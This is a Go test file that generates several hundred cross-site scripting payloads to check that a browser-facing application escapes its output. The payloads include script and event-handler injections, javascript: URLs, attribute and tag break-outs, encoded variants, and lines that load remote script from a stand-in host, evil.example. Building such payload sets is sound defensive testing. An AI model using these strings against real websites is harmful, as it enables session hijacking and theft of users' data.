package browsertest

import (
	"fmt"
	"html"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// payloads are texts that run a script where somebody forgets to escape them: each way to begin one in each place that it
// would have to break out of. Whatever runs calls xss or opens a dialog.
func payloads() (all []string) {
	const call = "xss()"
	ways := []string{
		"<script>%s</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>%s</script>", "<script\n>%s</script\n>", "<img src=x onerror=%s>", "<IMG SRC=x OnError=%s>",
		"<img src=x onerror=\"%s\">", "<img/src=\"x\"/onerror=%s>", "<svg onload=%s>", "<svg/onload=%s>", "<svg><script>%s</script></svg>", "<svg><animate onbegin=%s attributeName=x dur=1s>",
		"<body onload=%s>", "<iframe srcdoc='<script>parent.%s</script>'>", "<iframe src=javascript:parent.%s>", "<object data=javascript:%s>", "<embed src=javascript:%s>",
		"<input autofocus onfocus=%s>", "<textarea autofocus onfocus=%s>", "<select autofocus onfocus=%s>", "<details open ontoggle=%s>", "<video><source onerror=%s>", "<audio src=x onerror=%s>",
		"<marquee onstart=%s>", "<math><mtext><table><mglyph><style><img src=x onerror=%s>", "<form><button formaction=javascript:%s>x</button>", "<a href=javascript:%s>x</a>", "<a href=\"jav&#x09;ascript:%s\">x</a>",
		"<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:%s'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
		"<template><script>%s</script></template>", "<noscript><p title='</noscript><img src=x onerror=%s>'>", "<div style=\"animation-name:x\" onanimationstart=%s>", "<b onmouseover=%s style=position:fixed;inset:0>x</b>",
		"<p hx-on::load=%s hx-get=/ hx-trigger=load>", "<!--><img src=x onerror=%s>-->",
		"\" onfocus=%s autofocus x=\"", "' onfocus=%s autofocus x='", "` onfocus=%s autofocus x=`", "x onfocus=%s autofocus",
		"javascript:%s", "JaVaScRiPt:%s", "data:text/html,<script>%s</script>", "vbscript:%s", "java\tscript:%s", "\x01javascript:%s",
		"[x](javascript:%s)", "![x](javascript:%s)", "[x](data:text/html,<script>%s</script>)", "<javascript:%s>", "[x]: javascript:%s\n\n[x]", "[x](https://example.jp\"onmouseover=%s)", "`<img src=x onerror=%s>`",
		"```\n</code></pre><img src=x onerror=%s>\n```", "{{constructor.constructor('%s')()}}", "${%s}", "'-%s-'", "\"-%s-\"", "\\u003cscript\\u003e%s\\u003c/script\\u003e", "＜script＞%s＜/script＞", "';alert(1);//", "\");alert(1);//",
	}
	around := []string{"%s", "\">%s", "'>%s", "</textarea>%s", "</title>%s", "</script>%s", "</style>%s", "</select>%s", "-->%s", "]]>%s"}
	for i, w := range ways {
		p := strings.ReplaceAll(w, "%s", call)
		for j, a := range around {
			if i >= 38 && j > 2 { // these begin nothing of their own
				break
			}
			all = append(all, fmt.Sprintf(a, p))
		}
		switch i % 3 {
		case 0:
			all = append(all, html.EscapeString(p)) // for who unescapes twice
		case 1:
			all = append(all, url.QueryEscape(p))
		case 2:
			all = append(all, strings.ReplaceAll(p, "<", "\x00<"))
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

func TestPayloadsAreMany(t *testing.T) {
	all := payloads()
	if t.Logf("%d payloads", len(all)); len(all) < 500 {
		t.Error("fewer than 500")
	}
}
